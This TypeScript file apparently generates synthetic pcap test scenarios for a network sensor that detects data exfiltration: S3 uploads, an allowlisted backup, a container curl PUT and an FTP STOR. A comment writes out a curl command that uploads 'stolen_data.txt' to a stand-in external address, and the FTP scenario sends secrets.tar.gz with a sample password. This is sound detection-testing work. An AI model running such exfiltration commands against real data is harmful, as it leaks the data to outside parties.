/**
 * Non-MEGA upload scenarios: an S3 upload, an allowlisted nightly S3 backup, an HTTP PUT from a
 * container to a bare external address, and an FTP STOR with its passive data connection.
 */
import type { Capture } from './capture.js';
import { MS, SEC, T0, client, httpExchange, openTls, resolve, tcpTo, text, tlsSend } from './common.js';
import type { DnsRecordSpec } from './dns.js';
import type { Scenario } from './scenario.js';
import { openTcpSession, type TcpSession } from './tcp-session.js';

const MiB = 1024 * 1024;

/** S3 virtual-hosted names resolve through a CNAME to an S3 front end in us-east-1. */
function s3Answers(bucketHost: string, ip: string): DnsRecordSpec[] {
  return [
    { name: bucketHost, type: 'CNAME', ttl: 5, data: 's3-r-w.us-east-1.amazonaws.com' },
    { name: 's3-r-w.us-east-1.amazonaws.com', type: 'A', ttl: 5, data: ip },
  ];
}

/** PUT of `parts` × `partBytes` inside TLS, each part answered by a small 200 OK. */
function s3Put(cap: Capture, s: TcpSession, parts: number, partBytes: number): void {
  for (let i = 0; i < parts; i++) {
    tlsSend(s, 'c', partBytes + cap.rng.int(600, 900), i === 0 ? 2 * MS : 1 * MS);
    tlsSend(s, 's', cap.rng.int(280, 360), cap.rng.int(60, 140) * MS, false);
  }
}

/** 4. An upload to an S3 bucket in us-east-1. */
export const s3Upload: Scenario = {
  file: 's3-upload.pcap',
  description: 'DNS for exfil-bucket.s3.us-east-1.amazonaws.com (CNAME to an S3 front end in 52.216.0.0/15), TLS 1.3 with that SNI, one ~40 MiB PUT.',
  build(cap) {
    const c = client(cap, '10.20.30.63');
    const host = 'exfil-bucket.s3.us-east-1.amazonaws.com';
    const ip = '52.217.84.12';
    const t = resolve(cap, c, host, s3Answers(host, ip), T0);
    const tcp = tcpTo(c, ip, 443, t + 300, 18 * MS, 80e6, 100e6);
    const s = openTls(cap, tcp, { sni: host, alpn: ['http/1.1'], profile: 'go' });
    s3Put(cap, s, 1, 40 * MiB);
    s.close('c', 80 * MS);
    return {
      alerts: [{ rule: 'cloud-storage-upload', technique: 'T1567.002', sourceIp: c.ip, service: 'aws-s3', ips: [ip], domain: host }],
      notes: ['One flow carries the whole upload: a per-flow threshold fires as well as the host window.'],
    };
  },
};

/** 6. The nightly backup: 10.0.5.20 to S3 at 02:00, sanctioned by the test allowlist. */
export const backupS3Allowlisted: Scenario = {
  file: 'backup-s3-allowlisted.pcap',
  description: 'Host 10.0.5.20 uploads ~60 MiB to an S3 bucket (3.5.0.0/19, us-east-1) at 02:00 UTC as four multipart PUTs; the test allowlist sanctions 10.0.5.20 → aws-s3, so the alert is suppressed.',
  build(cap) {
    const c = client(cap, '10.0.5.20', '10.0.0.2');
    const host = 'corp-backups.s3.us-east-1.amazonaws.com';
    const ip = '3.5.10.34';
    const start = T0 - 7 * 3600 * SEC; // 02:00:00Z the same day
    const t = resolve(cap, c, host, s3Answers(host, ip), start);
    const s = openTls(cap, tcpTo(c, ip, 443, t + 300, 16 * MS, 100e6, 100e6), { sni: host, alpn: ['http/1.1'], profile: 'go' });
    s3Put(cap, s, 4, 15 * MiB);
    s.close('c', 50 * MS);
    const spec = { rule: 'cloud-storage-upload' as const, technique: 'T1567.002' as const, sourceIp: c.ip, service: 'aws-s3', ips: [ip], domain: host };
    return {
      alerts: [],
      suppressed: [{ ...spec, allowlist: { sourceIp: c.ip, service: 'aws-s3' } }],
      notes: ['Without the allowlist this is a cloud-storage-upload alert; with it the sensor stays quiet (or marks the alert allowlisted).'],
    };
  },
};

/** 7. `curl --upload-file stolen_data.txt http://203.0.113.50/upload` from a container. */
export const containerHttpPut: Scenario = {
  file: 'container-http-put.pcap',
  description: 'From container 172.17.0.5: curl/8.5.0 PUT of a 12 MiB file to http://203.0.113.50/upload (Expect: 100-continue), an external address that belongs to no known service.',
  build(cap) {
    const c = { ...client(cap, '172.17.0.5'), mac: '02:42:ac:11:00:05' };
    const ip = '203.0.113.50';
    const tcp = { ...tcpTo(c, ip, 80, T0, 22 * MS, 100e6, 100e6), server: { ip, port: 80, mac: '02:42:7d:3e:21:9a' } };
    const s = openTcpSession(cap, tcp);
    const size = 12 * MiB;
    httpExchange(cap, s, tcp, {
      method: 'PUT', target: '/upload', host: ip, userAgent: 'curl/8.5.0',
      headers: ['User-Agent: curl/8.5.0', 'Accept: */*', `Content-Length: ${size}`, 'Expect: 100-continue'],
      bodyBytes: size, expectContinue: true,
      response: { code: 201, reason: 'Created', headers: ['Server: nginx/1.24.0', `Date: ${new Date(T0 / 1000 + 2000).toUTCString()}`, 'Content-Type: text/plain'], body: 'stored\n' },
      serverDelayUs: 12 * MS,
    });
    s.close('c', 1 * MS);
    return {
      alerts: [{ rule: 'http-put-external', technique: 'T1020', sourceIp: c.ip, service: ip, ips: [ip], port: 80 }],
      notes: ['The request line and headers travel alone (curl waits for 100 Continue); every body segment keeps 96 bytes.'],
    };
  },
};

/** 8. FTP STOR to an external server over a passive data connection. */
export const ftpStor: Scenario = {
  file: 'ftp-stor.pcap',
  description: 'FTP session to 198.51.100.23: USER, PASS, SYST, TYPE I, PASV (227 → port 50000), STOR secrets.tar.gz over the passive data connection (~15 MiB out), QUIT.',
  build(cap) {
    const c = client(cap, '192.168.1.50', '192.168.1.1');
    const server = '198.51.100.23';
    const rtt = 36 * MS;
    const tcp = tcpTo(c, server, 21, T0, rtt, 50e6, 50e6);
    const ctl = openTcpSession(cap, tcp);
    ctl.send('s', text('220 (vsFTPd 3.0.5)\r\n'), { delayUs: 3 * MS });
    const dialog: [string, string, string][] = [
      ['USER', 'backup', '331 Please specify the password.'],
      ['PASS', 'Winter2026!', '230 Login successful.'],
      ['SYST', '', '215 UNIX Type: L8'],
      ['TYPE', 'I', '200 Switching to Binary mode.'],
      ['PASV', '', '227 Entering Passive Mode (198,51,100,23,195,80).'],
    ];
    const fact = (command: string, argument: string, replyCode: number): void => {
      cap.facts.ftp.push({ clientIp: c.ip, serverIp: server, command, argument, replyCode });
    };
    for (const [cmd, arg, reply] of dialog) {
      ctl.send('c', text(`${cmd}${arg ? ` ${arg}` : ''}\r\n`), { delayUs: cap.rng.int(2, 40) * MS });
      ctl.send('s', text(`${reply}\r\n`), { delayUs: cap.rng.int(1, 4) * MS });
      fact(cmd, arg, Number(reply.slice(0, 3)));
    }
    const data = openTcpSession(cap, tcpTo(c, server, 195 * 256 + 80, ctl.readyAt('c') + 1 * MS, rtt, 50e6, 50e6));
    ctl.send('c', text('STOR secrets.tar.gz\r\n'), { delayUs: Math.max(0, data.readyAt('c') - ctl.readyAt('c')) + 200 });
    const opened = ctl.send('s', text('150 Ok to send data.\r\n'), { delayUs: 2 * MS });
    const size = 15 * MiB;
    data.stream('c').pushBytes(Uint8Array.of(0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03)); // gzip member header
    data.stream('c').pushRandom(size - 10);
    data.send('c', size, { delayUs: Math.max(0, opened.last - data.readyAt('c')) + 300, keepWhole: 0 });
    const closed = data.close('c', 1 * MS);
    ctl.send('s', text('226 Transfer complete.\r\n'), { delayUs: Math.max(0, closed + rtt / 2 - ctl.readyAt('s')) + 2 * MS });
    fact('STOR', 'secrets.tar.gz', 226);
    ctl.send('c', text('QUIT\r\n'), { delayUs: 5 * MS });
    ctl.send('s', text('221 Goodbye.\r\n'), { delayUs: 1 * MS });
    fact('QUIT', '', 221);
    ctl.close('s', 1 * MS);
    return {
      alerts: [{ rule: 'ftp-stor-external', technique: 'T1020', sourceIp: c.ip, service: server, ips: [server], port: 21 }],
      notes: ['STOR is reported with its final reply (226); the 150 preliminary reply comes first.', 'Data connection segments all keep 96 bytes (the first starts with a gzip header).'],
    };
  },
};
